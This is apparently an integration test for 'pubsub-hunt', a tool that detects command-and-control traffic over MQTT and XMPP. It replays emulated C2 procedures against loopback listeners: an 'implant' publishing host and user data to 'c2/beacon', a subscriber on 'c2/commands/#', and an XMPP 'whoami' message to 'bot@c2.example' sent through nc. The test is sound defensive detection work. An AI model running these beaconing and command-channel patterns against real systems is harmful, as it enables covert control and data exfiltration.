//! `pubsub-hunt watch` end to end on the loopback interface: the seeds' test procedures (an MQTT
//! client publishing host data to `c2/beacon`, an XMPP stanza sent the way `nc` would, and a
//! subscriber on `c2/commands/#`) are played against listeners on 127.0.0.1, on ports no port
//! list knows, and the live capture must recognise them by their bytes, attribute them to this
//! process, and report them, flushing what it has on SIGTERM.
//!
//! Capturing needs root or CAP_NET_RAW; without it the test says so and returns.

use std::io::{BufRead, BufReader, Read, Write};
use std::net::{TcpListener, TcpStream};
use std::process::{Command, Stdio};
use std::time::Duration;

mod common;
use common::is_root;

fn remaining_length(mut n: usize, out: &mut Vec<u8>) {
    loop {
        let mut b = (n % 128) as u8;
        n /= 128;
        if n > 0 {
            b |= 0x80;
        }
        out.push(b);
        if n == 0 {
            break;
        }
    }
}

fn mqtt_packet(first: u8, body: &[u8]) -> Vec<u8> {
    let mut p = vec![first];
    remaining_length(body.len(), &mut p);
    p.extend_from_slice(body);
    p
}

fn mqtt_string(s: &str, out: &mut Vec<u8>) {
    out.extend_from_slice(&(s.len() as u16).to_be_bytes());
    out.extend_from_slice(s.as_bytes());
}

fn mqtt_connect(client_id: &str) -> Vec<u8> {
    let mut b = Vec::new();
    mqtt_string("MQTT", &mut b);
    b.extend_from_slice(&[4, 0x02, 0, 60]);
    mqtt_string(client_id, &mut b);
    mqtt_packet(0x10, &b)
}

fn mqtt_publish(topic: &str, payload: &[u8]) -> Vec<u8> {
    let mut b = Vec::new();
    mqtt_string(topic, &mut b);
    b.extend_from_slice(payload);
    mqtt_packet(0x30, &b)
}

fn mqtt_subscribe(filter: &str) -> Vec<u8> {
    let mut b = vec![0, 1];
    mqtt_string(filter, &mut b);
    b.push(0);
    mqtt_packet(0x82, &b)
}

/// A listener that reads whatever comes and answers MQTT CONNECT with CONNACK.
fn serve(listener: TcpListener) {
    std::thread::spawn(move || {
        for s in listener.incoming() {
            let Ok(mut s) = s else { return };
            std::thread::spawn(move || {
                let mut buf = [0u8; 4096];
                let mut first = true;
                while let Ok(n) = s.read(&mut buf) {
                    if n == 0 {
                        break;
                    }
                    if first && buf[0] == 0x10 {
                        let _ = s.write_all(&[0x20, 2, 0, 0]);
                    }
                    first = false;
                }
            });
        }
    });
}

#[test]
fn watch_recognises_the_seed_procedures_on_loopback() {
    if !is_root() {
        eprintln!("note: watch test skipped: capturing needs root or CAP_NET_RAW");
        return;
    }
    let mqtt = TcpListener::bind("127.0.0.1:0").unwrap();
    let xmpp = TcpListener::bind("127.0.0.1:0").unwrap();
    let (mqtt_port, xmpp_port) = (
        mqtt.local_addr().unwrap().port(),
        xmpp.local_addr().unwrap().port(),
    );
    serve(mqtt);
    serve(xmpp);

    let bin = assert_cmd::cargo::cargo_bin("pubsub-hunt");
    let mut child = Command::new(bin)
        .args([
            "watch",
            "--interface",
            "lo",
            "--report-every",
            "1",
            "--all-sessions",
        ])
        .args(["--filter", "tcp"])
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .unwrap();
    // Wait until the capture is running.
    let mut stderr = BufReader::new(child.stderr.take().unwrap());
    let mut line = String::new();
    stderr.read_line(&mut line).unwrap();
    assert!(line.contains("watching lo"), "{line}");
    // The line is written as the capture thread starts; give it time to open its socket on a
    // loaded machine.
    std::thread::sleep(Duration::from_millis(1500));

    // Procedure 1: publish host data to c2/beacon (twice: the analytic needs two connections).
    for _ in 0..2 {
        let mut c = TcpStream::connect(("127.0.0.1", mqtt_port)).unwrap();
        c.write_all(&mqtt_connect("c2-implant-7f3a")).unwrap();
        std::thread::sleep(Duration::from_millis(100));
        c.write_all(&mqtt_publish("c2/beacon", b"host=ws-1;user=root;os=linux"))
            .unwrap();
        std::thread::sleep(Duration::from_millis(200));
        c.write_all(&[0xe0, 0]).unwrap();
    }
    // Procedure 3: a subscriber on the command tree.
    let mut sub = TcpStream::connect(("127.0.0.1", mqtt_port)).unwrap();
    sub.write_all(&mqtt_connect("c2-listener")).unwrap();
    std::thread::sleep(Duration::from_millis(100));
    sub.write_all(&mqtt_subscribe("c2/commands/#")).unwrap();
    // Procedure 2: an XMPP stanza, as `nc` would send it.
    for _ in 0..2 {
        let mut c = TcpStream::connect(("127.0.0.1", xmpp_port)).unwrap();
        c.write_all(
            b"<?xml version='1.0'?><stream:stream to='c2.example' xmlns='jabber:client' \
              xmlns:stream='http://etherx.jabber.org/streams' version='1.0'>\
              <message to='bot@c2.example' type='chat'><body>whoami</body></message>",
        )
        .unwrap();
        std::thread::sleep(Duration::from_millis(200));
    }
    std::thread::sleep(Duration::from_millis(500));
    drop(sub);
    std::thread::sleep(Duration::from_millis(300));

    let _ = Command::new("kill")
        .args(["-TERM", &child.id().to_string()])
        .status();
    let mut out = String::new();
    child
        .stdout
        .take()
        .unwrap()
        .read_to_string(&mut out)
        .unwrap();
    let status = child.wait().unwrap();
    let mut rest = String::new();
    let _ = stderr.read_to_string(&mut rest);
    assert_eq!(status.code(), Some(0), "{rest}");

    let lines: Vec<serde_json::Value> = out
        .lines()
        .map(|l| serde_json::from_str(l).unwrap())
        .collect();
    let sessions: Vec<&serde_json::Value> = lines
        .iter()
        .filter(|l| l["kind"] == "session" && l["dst_ip"] == "127.0.0.1")
        .collect();
    let mqtt_sessions: Vec<_> = sessions
        .iter()
        .filter(|s| s["protocol"] == "MQTT" && s["dst_port"] == mqtt_port)
        .collect();
    assert_eq!(mqtt_sessions.len(), 3, "{out}\n{rest}");
    let topics: Vec<String> = mqtt_sessions
        .iter()
        .flat_map(|s| s["app"]["topics"].as_array().cloned().unwrap_or_default())
        .map(|t| {
            format!(
                "{}:{}",
                t["direction"].as_str().unwrap(),
                t["name"].as_str().unwrap()
            )
        })
        .collect();
    assert!(
        topics.contains(&"publish:c2/beacon".to_string()),
        "{topics:?}"
    );
    assert!(
        topics.contains(&"subscribe:c2/commands/#".to_string()),
        "{topics:?}"
    );
    let xmpp_sessions = sessions
        .iter()
        .filter(|s| s["protocol"] == "XMPP" && s["dst_port"] == xmpp_port)
        .count();
    assert_eq!(xmpp_sessions, 2, "{out}");

    // The MQTT group (two publishers and the subscriber: same host, process and broker) is
    // an unusual-port alert, attributed to this test process, with the C2 vocabulary seen.
    let alert = lines
        .iter()
        .find(|l| l["kind"] == "alert" && l["protocol"] == "MQTT" && l["dst_port"] == mqtt_port)
        .unwrap_or_else(|| panic!("no MQTT alert in:\n{out}\n{rest}"));
    assert_eq!(alert["analytic"], "pubsub-unusual-port");
    let me = std::env::current_exe().unwrap();
    let process = alert["process"].as_str().unwrap_or_default();
    assert_eq!(
        std::path::Path::new(process).file_name(),
        me.file_name(),
        "{alert}"
    );
    assert!(
        alert["app"]["client_ids"]
            .as_array()
            .unwrap()
            .iter()
            .any(|c| c == "c2-implant-7f3a"),
        "{alert}"
    );
    assert!(!alert["signals"].as_object().unwrap().is_empty(), "{alert}");
    assert!(
        lines
            .iter()
            .any(|l| l["kind"] == "alert" && l["protocol"] == "XMPP" && l["dst_port"] == xmpp_port),
        "{out}"
    );
}

fn tool(name: &str) -> Option<std::path::PathBuf> {
    std::env::var_os("PATH").and_then(|paths| {
        std::env::split_paths(&paths)
            .chain([std::path::PathBuf::from("/usr/sbin")])
            .map(|d| d.join(name))
            .find(|p| p.is_file())
    })
}

fn free_port() -> u16 {
    TcpListener::bind("127.0.0.1:0")
        .unwrap()
        .local_addr()
        .unwrap()
        .port()
}

/// Kills a child on drop, so a failing assertion does not leave a broker running.
struct Running(std::process::Child);

impl Drop for Running {
    fn drop(&mut self) {
        let _ = self.0.kill();
        let _ = self.0.wait();
    }
}

/// The seeds' three procedures with the real tools: Mosquitto on 127.0.0.1, `mosquitto_pub`
/// publishing host data to `c2/beacon`, `mosquitto_sub` on `c2/commands/#`, and an XMPP stanza
/// piped through `nc`. Seen live by `watch` (with the process that sent each) and, from a
/// tcpdump capture of the same traffic, by `hunt`. scripts/test.sh installs the tools when it
/// runs as root; `PUBSUB_HUNT_REQUIRE_TOOLS=1` makes their absence a failure.
#[test]
fn seed_procedures_with_real_mosquitto_and_nc() {
    let tools: Vec<_> = [
        "mosquitto",
        "mosquitto_pub",
        "mosquitto_sub",
        "nc",
        "tcpdump",
    ]
    .iter()
    .map(|t| (*t, tool(t)))
    .collect();
    let missing: Vec<&str> = tools
        .iter()
        .filter(|(_, p)| p.is_none())
        .map(|(t, _)| *t)
        .collect();
    if !is_root() || !missing.is_empty() {
        let why = format!("needs root and {missing:?}");
        if std::env::var_os("PUBSUB_HUNT_REQUIRE_TOOLS").is_some() {
            panic!("{why}");
        }
        eprintln!("note: real-tools test skipped: {why}");
        return;
    }
    let path = |t: &str| {
        tools
            .iter()
            .find(|(n, _)| *n == t)
            .unwrap()
            .1
            .clone()
            .unwrap()
    };
    let dir = tempfile::tempdir().unwrap();
    let (mqtt_port, xmpp_port) = (free_port(), free_port());
    let conf = dir.path().join("mosquitto.conf");
    std::fs::write(
        &conf,
        format!("listener {mqtt_port} 127.0.0.1\nallow_anonymous true\n"),
    )
    .unwrap();
    let _broker = Running(
        Command::new(path("mosquitto"))
            .arg("-c")
            .arg(&conf)
            .stdout(Stdio::null())
            .stderr(Stdio::null())
            .spawn()
            .unwrap(),
    );
    let xmpp = TcpListener::bind(("127.0.0.1", xmpp_port)).unwrap();
    serve(xmpp);
    let pcap = dir.path().join("procedures.pcap");
    let mut tcpdump = Running(
        Command::new(path("tcpdump"))
            .args(["-i", "lo", "-U", "-s", "0", "-w"])
            .arg(&pcap)
            .args([
                "tcp and (port",
                &mqtt_port.to_string(),
                "or port",
                &xmpp_port.to_string(),
                ")",
            ])
            .stdout(Stdio::null())
            .stderr(Stdio::null())
            .spawn()
            .unwrap(),
    );
    let bin = assert_cmd::cargo::cargo_bin("pubsub-hunt");
    let mut watch = Command::new(&bin)
        .args([
            "watch",
            "--interface",
            "lo",
            "--report-every",
            "1",
            "--all-sessions",
        ])
        .args(["--filter", "tcp"])
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .unwrap();
    let mut stderr = BufReader::new(watch.stderr.take().unwrap());
    let mut line = String::new();
    stderr.read_line(&mut line).unwrap();
    assert!(line.contains("watching lo"), "{line}");
    std::thread::sleep(Duration::from_millis(1500));

    let port = mqtt_port.to_string();
    for _ in 0..2 {
        let st = Command::new(path("mosquitto_pub"))
            .args(["-h", "127.0.0.1", "-p", &port, "-i", "c2-implant-7f3a"])
            .args(["-t", "c2/beacon", "-m", "host=ws-1;user=root;os=linux"])
            .status()
            .unwrap();
        assert!(st.success());
    }
    let st = Command::new(path("mosquitto_sub"))
        .args([
            "-h",
            "127.0.0.1",
            "-p",
            &port,
            "-t",
            "c2/commands/#",
            "-W",
            "2",
        ])
        .stdout(Stdio::null())
        .status()
        .unwrap();
    // -W ends mosquitto_sub with a timeout status; it only has to have run.
    assert!(st.code().is_some());
    for _ in 0..2 {
        let mut nc = Command::new(path("nc"))
            .args(["-q", "2", "127.0.0.1", &xmpp_port.to_string()])
            .stdin(Stdio::piped())
            .stdout(Stdio::null())
            .spawn()
            .unwrap();
        nc.stdin
            .take()
            .unwrap()
            .write_all(
                b"<?xml version='1.0'?><stream:stream to='c2.example' xmlns='jabber:client' \
                  xmlns:stream='http://etherx.jabber.org/streams' version='1.0'>\
                  <message to='bot@c2.example' type='chat'><body>whoami</body></message>",
            )
            .unwrap();
        let _ = nc.wait();
    }
    std::thread::sleep(Duration::from_millis(800));
    let _ = Command::new("kill")
        .args(["-TERM", &watch.id().to_string()])
        .status();
    let mut out = String::new();
    watch
        .stdout
        .take()
        .unwrap()
        .read_to_string(&mut out)
        .unwrap();
    let mut rest = String::new();
    let _ = stderr.read_to_string(&mut rest);
    assert_eq!(watch.wait().unwrap().code(), Some(0), "{rest}");
    let _ = Command::new("kill")
        .args(["-INT", &tcpdump.0.id().to_string()])
        .status();
    let _ = tcpdump.0.wait();

    let live = parse(&out);
    check_procedures(&live, mqtt_port, xmpp_port, true, &out);

    let r = Command::new(&bin)
        .args(["hunt", "--all-sessions"])
        .arg(&pcap)
        .output()
        .unwrap();
    let stdout = String::from_utf8(r.stdout).unwrap();
    assert_eq!(
        r.status.code(),
        Some(0),
        "{}",
        String::from_utf8_lossy(&r.stderr)
    );
    check_procedures(&parse(&stdout), mqtt_port, xmpp_port, false, &stdout);
}

fn parse(out: &str) -> Vec<serde_json::Value> {
    out.lines()
        .map(|l| serde_json::from_str(l).unwrap())
        .collect()
}

fn basename(v: &serde_json::Value) -> String {
    v.as_str()
        .and_then(|p| std::path::Path::new(p).file_name())
        .map(|n| n.to_string_lossy().into_owned())
        .unwrap_or_default()
}

/// Each procedure is a session with its topic or stanza (and, live, its process).
fn check_procedures(
    lines: &[serde_json::Value],
    mqtt_port: u16,
    xmpp_port: u16,
    live: bool,
    out: &str,
) {
    let sessions: Vec<&serde_json::Value> =
        lines.iter().filter(|l| l["kind"] == "session").collect();
    let mqtt: Vec<_> = sessions
        .iter()
        .filter(|s| s["protocol"] == "MQTT" && s["dst_port"] == mqtt_port)
        .collect();
    let has_topic = |s: &serde_json::Value, dir: &str, name: &str| {
        s["app"]["topics"]
            .as_array()
            .is_some_and(|t| t.iter().any(|t| t["direction"] == dir && t["name"] == name))
    };
    let publishers: Vec<_> = mqtt
        .iter()
        .filter(|s| has_topic(s, "publish", "c2/beacon"))
        .collect();
    assert_eq!(publishers.len(), 2, "{out}");
    for p in &publishers {
        assert!(
            p["app"]["client_ids"]
                .as_array()
                .unwrap()
                .iter()
                .any(|c| c == "c2-implant-7f3a"),
            "{p}"
        );
        // mosquitto_pub lives a few milliseconds: it can be gone (and its socket with it)
        // before /proc is read, so its process may be unknown, but never someone else.
        if live && !p["process"].is_null() {
            assert_eq!(basename(&p["process"]), "mosquitto_pub", "{p}");
        }
    }
    let subscribers: Vec<_> = mqtt
        .iter()
        .filter(|s| has_topic(s, "subscribe", "c2/commands/#"))
        .collect();
    assert_eq!(subscribers.len(), 1, "{out}");
    if live {
        assert_eq!(basename(&subscribers[0]["process"]), "mosquitto_sub");
    }
    let stanzas: Vec<_> = sessions
        .iter()
        .filter(|s| s["protocol"] == "XMPP" && s["dst_port"] == xmpp_port)
        .collect();
    assert_eq!(stanzas.len(), 2, "{out}");
    for s in &stanzas {
        assert!(
            s["app"]["server_names"]
                .as_array()
                .unwrap()
                .iter()
                .any(|n| n == "c2.example"),
            "{s}"
        );
        // Like mosquitto_pub, nc may be gone before a loaded machine reads /proc.
        if live && !s["process"].is_null() {
            assert!(basename(&s["process"]).starts_with("nc"), "{s}");
        }
    }
}
